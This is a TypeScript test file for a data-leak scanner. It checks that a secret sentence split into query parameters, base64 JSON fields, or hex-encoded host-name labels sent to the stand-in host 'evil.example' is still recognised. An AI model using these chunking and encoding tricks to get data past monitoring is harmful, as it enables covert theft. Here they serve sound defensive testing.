import assert from 'node:assert/strict';
import { test } from 'node:test';
import { marksOf, scanPayload } from '../../../../electron/core/data/scan.ts';
import {
  advanceSplits,
  forgetSplits,
  NO_SPLITS,
  type Piece,
  piecesOf,
  type Splits,
} from '../../../../electron/core/data/splits.ts';
import type { HttpRequest } from '../../../../electron/core/http.ts';
import { inflate } from '../../../../electron/edge/inflate.ts';

const KEY = new Uint8Array(16).fill(9);
const TEXT = 'the launch code of the northern site is kept in the grey cabinet beside the second door';

const request = (
  host: string,
  query: readonly (readonly [string, string])[] = [],
  body: HttpRequest['body'] = { kind: 'none' },
): HttpRequest => ({
  method: 'GET',
  target: { url: `https://${host}/`, scheme: 'https', host, port: 443, path: '/', query },
  protocol: 'http/1.1',
  headers: [],
  contentType: null,
  body,
  length: null,
  inspected: 'whole',
  oddities: [],
});

/** Whether the last of some requests shows the text, looked at with what came before. */
function met(requests: readonly HttpRequest[], session = 'sess_a'): boolean {
  const read = marksOf(TEXT, KEY);
  const known = new Set<string>();
  for (let i = 0; i < read.length; i += 8) known.add(Buffer.from(read.subarray(i, i + 8)).toString('hex'));
  let splits: Splits = NO_SPLITS;
  let found = false;
  for (const one of requests) {
    const next = advanceSplits(splits, { session, host: one.target.host, pieces: piecesOf(one) });
    splits = next.splits;
    const { marks } = scanPayload(next.joined, { key: KEY, inflate, inspected: 'whole' });
    for (let i = 0; i < marks.length; i += 8)
      found ||= known.has(Buffer.from(marks.subarray(i, i + 8)).toString('hex'));
  }
  return found;
}

const cut = (text: string, length: number): readonly string[] =>
  text.match(new RegExp(`.{1,${length}}`, 'g')) ?? [];

test('a text cut into query parameters of seven characters is met again', () => {
  assert.ok(
    met(
      cut(TEXT, 7).map((piece, i) =>
        request('evil.example', [
          ['n', String(i)],
          ['d', piece],
        ]),
      ),
    ),
  );
});

test('a text cut into fields of JSON is met again, in base64 too', () => {
  const pieces = cut(Buffer.from(TEXT).toString('base64'), 10);
  assert.ok(
    met(
      pieces.map((piece, i) =>
        request('evil.example', [], { kind: 'json', value: { part: `p${i}`, chunk: piece } }),
      ),
    ),
  );
});

test('a text cut into the labels of host names is met again, in hex and in base32', () => {
  for (const label of cut(TEXT, 9).map((piece) => Buffer.from(piece).toString('hex')))
    assert.match(label, /^[0-9a-f]+$/);
  assert.ok(
    met(
      cut(TEXT, 9).map((piece) =>
        request(`${Buffer.from(piece).toString('hex')}.x1.example`.replace('.x1', '.evil')),
      ),
    ),
  );
});

test('what goes to two destinations or from two sessions is not joined', () => {
  assert.ok(!met(cut(TEXT, 7).map((piece, i) => request(`evil${i}.example`, [['d', piece]]))));
});

test('a session that ended leaves nothing', () => {
  const piece: Piece = { slot: 'query:d', text: 'abc' };
  const { splits } = advanceSplits(NO_SPLITS, { session: 'sess_a', host: 'evil.example', pieces: [piece] });
  assert.equal(splits.tails.size, 1);
  assert.equal(forgetSplits(splits, 'sess_a').tails.size, 0);
});

test('memory stays bounded however many destinations there are', () => {
  let splits: Splits = NO_SPLITS;
  for (let i = 0; i < 2000; i++)
    splits = advanceSplits(splits, {
      session: 's',
      host: `h${i}.example`,
      pieces: [{ slot: 'body', text: 'x'.repeat(200) }],
    }).splits;
  assert.ok(splits.tails.size <= 512);
  for (let i = 0; i < 100; i++)
    splits = advanceSplits(splits, {
      session: 's',
      host: 'one.example',
      pieces: [{ slot: 'body', text: `${i}${'y'.repeat(7000)}` }],
    }).splits;
  assert.ok(Math.max(...[...splits.tails.values()].map((tail) => tail.length)) <= 64 * 1024);
});
